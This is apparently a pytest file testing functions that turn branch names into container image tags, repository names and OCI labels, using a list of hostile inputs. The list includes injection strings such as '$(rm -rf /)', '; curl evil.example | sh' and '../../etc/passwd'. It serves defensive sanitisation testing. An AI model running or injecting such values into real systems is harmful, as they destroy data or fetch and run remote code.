"""Image tags, repository names and OCI labels: pure functions, hostile input."""

from __future__ import annotations

import hashlib
import random
import re
import string

import pytest

from aither_assets.images.tags import (
    MAX_LABEL_LEN,
    PATH_COMPONENT_RE,
    clean_label_value,
    image_repository,
    image_tags,
    is_valid_tag,
    oci_labels,
    platform_tag,
    ring_tag,
    sanitize_tag,
    slug,
    split_repository,
)

TAG = re.compile(r"^[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}$")
SHA = "0123456789abcdef0123456789abcdef01234567"

HOSTILE = [
    "feature/<script>$(rm -rf /)",
    "x" * 300,
    "feature/" + "ä" * 200,
    "日本語のブランチ",
    "🚀/rocket",
    "!@#$%^&*()",
    "/",
    "",
    " ",
    "...",
    "---",
    ".hidden",
    "-leading-dash",
    "..--..name",
    "a" * 127 + "/",
    "release/1.2.3; curl evil.example | sh",
    "name\nwith\nnewlines\x00and\x07controls",
    "`backticks` and 'quotes' and \"double\"",
    "../../etc/passwd",
    "tab\there",
    "\u202eRTL-override",
]


def test_exact_tags_for_a_normal_pr():
    assert image_tags(123, "main", 4, SHA) == [
        "pr-123-main-v4",
        "pr-123-main-latest",
        "pr-123-latest",
        "pr-123-01234567",
    ]
    assert ring_tag(123, "production") == "production-pr-123-latest"


def test_upper_case_sha_gives_the_same_tags():
    assert image_tags(7, "dev-staging", 1, SHA.upper()) == [
        "pr-7-dev-staging-v1",
        "pr-7-dev-staging-latest",
        "pr-7-latest",
        "pr-7-01234567",
    ]


def test_branch_separators_stay_readable():
    assert slug("feature/login") == "feature-login"
    assert sanitize_tag("release/1.2") == "release-1.2"
    assert image_tags(5, "ring-0/canary", 2, SHA)[0] == "pr-5-ring-0-canary-v2"


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_branch_names_give_valid_tags(name):
    for tag in [*image_tags(42, name, 3, SHA), ring_tag(42, name)]:
        assert TAG.fullmatch(tag), (name, tag)
        assert len(tag) <= 128
    assert TAG.fullmatch(sanitize_tag(name)), name
    assert len(slug(name)) <= 40


def test_hostile_names_are_hashed_from_the_original_text():
    name = "feature/<script>$(rm -rf /)"
    expected_hash = hashlib.sha256(name.encode()).hexdigest()[:8]
    assert sanitize_tag(name) == f"feature-script-rm-rf-{expected_hash}"
    # same cleaned text, different original: different tags
    assert sanitize_tag("feature/<script>") != sanitize_tag("feature/(script)")
    assert sanitize_tag("a b") != sanitize_tag("a:b")
    # deterministic
    assert sanitize_tag(name) == sanitize_tag(name)


def test_long_names_are_cut_with_a_hash():
    long_a, long_b = "x" * 300, "x" * 299 + "y"
    tag_a, tag_b = sanitize_tag(long_a), sanitize_tag(long_b)
    assert len(tag_a) == 128 and len(tag_b) == 128
    assert tag_a != tag_b
    assert tag_a.endswith("-" + hashlib.sha256(long_a.encode()).hexdigest()[:8])
    assert len(slug("y" * 41)) == 40 and slug("y" * 40) == "y" * 40


def test_leading_dots_and_dashes_and_symbol_only_names():
    assert not sanitize_tag(".hidden").startswith(".")
    assert not sanitize_tag("-x").startswith("-")
    assert sanitize_tag(".hidden") != sanitize_tag("hidden")
    only_symbols = sanitize_tag("!@#$%^&*()")
    assert re.fullmatch(r"[0-9a-f]{8}", only_symbols)
    assert sanitize_tag("") != sanitize_tag("/")
    assert slug("feature/") == f"feature-{hashlib.sha256(b'feature/').hexdigest()[:8]}"


def test_500_random_names_are_valid_and_distinct():
    rng = random.Random(20240611)
    alphabet = string.ascii_letters + string.digits + "/._-~^:?*[]\\ @{}<>$`'\"|&;()!#%+=,\t\n" + "äößéñ日本🚀\u202e\x00"
    inputs: set[str] = set()
    while len(inputs) < 500:
        length = rng.choice([rng.randint(0, 12), rng.randint(13, 60), rng.randint(61, 400)])
        inputs.add("".join(rng.choice(alphabet) for _ in range(length)))
    seen: dict[str, str] = {}
    for text in sorted(inputs):
        for out in (sanitize_tag(text), slug(text)):
            assert TAG.fullmatch(out), (text, out)
        tag = sanitize_tag(text)
        assert tag not in seen, f"{text!r} and {seen[tag]!r} both give {tag!r}"
        seen[tag] = text
        number = rng.randint(1, 10**6)
        tags = [*image_tags(number, text, rng.randint(0, 999), SHA), ring_tag(number, text)]
        assert all(TAG.fullmatch(t) for t in tags), (text, tags)


def test_bad_numbers_are_rejected():
    with pytest.raises(ValueError):
        image_tags(0, "main", 1, SHA)
    with pytest.raises(ValueError):
        image_tags(True, "main", 1, SHA)
    with pytest.raises(ValueError):
        image_tags(1, "main", -1, SHA)
    with pytest.raises(ValueError):
        image_tags(1, "main", 1, "not-a-sha")


def test_platform_tags_stay_valid():
    assert platform_tag("pr-1-main-v2", "linux/arm64") == "pr-1-main-v2-arm64"
    assert platform_tag("pr-1-main-v2", "linux/arm/v7") == "pr-1-main-v2-arm-v7"
    longest = sanitize_tag("z" * 300)
    for platform in ("linux/amd64", "linux/arm64"):
        assert is_valid_tag(platform_tag(longest, platform))
    assert platform_tag(longest, "linux/amd64") != platform_tag(longest, "linux/arm64")


def test_image_repository():
    assert image_repository("127.0.0.1:5000", "sample-app") == "127.0.0.1:5000/sample-app"
    assert image_repository("ghcr.io/acme", "sample-app") == "ghcr.io/acme/sample-app"
    assert image_repository("https://GHCR.io/Acme/", "Sample App") == "ghcr.io/acme/sample-app"
    assert image_repository("localhost:5000", "..My__App--") == "localhost:5000/my-app"
    assert image_repository("registry.example:443", "svc.v2_x") == "registry.example:443/svc.v2_x"
    for app in ("Ünïcode App!", "a//b", "UPPER", "x" * 100, "a.-_b"):
        repo = image_repository("127.0.0.1:5000", app)
        for component in repo.split("/")[1:]:
            assert PATH_COMPONENT_RE.fullmatch(component), (app, repo)
    with pytest.raises(ValueError):
        image_repository("127.0.0.1:5000", "!!!")
    with pytest.raises(ValueError):
        image_repository("bad host$:1", "app")


def test_split_repository():
    assert split_repository("127.0.0.1:5000/sample-app") == ("127.0.0.1:5000", "sample-app")
    assert split_repository("ghcr.io/acme/app") == ("ghcr.io", "acme/app")
    assert split_repository("localhost/app") == ("localhost", "app")
    assert split_repository("acme/app") == ("docker.io", "acme/app")
    assert split_repository("app") == ("docker.io", "library/app")
    with pytest.raises(ValueError):
        split_repository("127.0.0.1:5000/Upper")


def test_oci_labels():
    labels = oci_labels(
        "https://github.com/acme/app", SHA, "2024-06-11T10:00:00Z", 12, "feature/x", "dev", "Add\x00 thing\n\tnow"
    )
    assert labels == {
        "org.opencontainers.image.source": "https://github.com/acme/app",
        "org.opencontainers.image.revision": SHA,
        "org.opencontainers.image.created": "2024-06-11T10:00:00Z",
        "org.opencontainers.image.title": "Add thing  now",
        "io.aither.pr": "12",
        "io.aither.base-ref": "feature/x",
        "io.aither.ring": "dev",
    }
    bare = oci_labels("https://x", SHA, "2024-06-11T10:00:00Z", 1, "main", None)
    assert "io.aither.ring" not in bare and "org.opencontainers.image.title" not in bare


def test_label_values_are_cleaned_and_capped():
    value = clean_label_value("a\x1b[31mred\x07" + "\u202e" + "z" * 1000)
    assert "\x1b" not in value and "\x07" not in value and "\u202e" not in value
    assert len(value) == MAX_LABEL_LEN
    assert clean_label_value(None) == ""
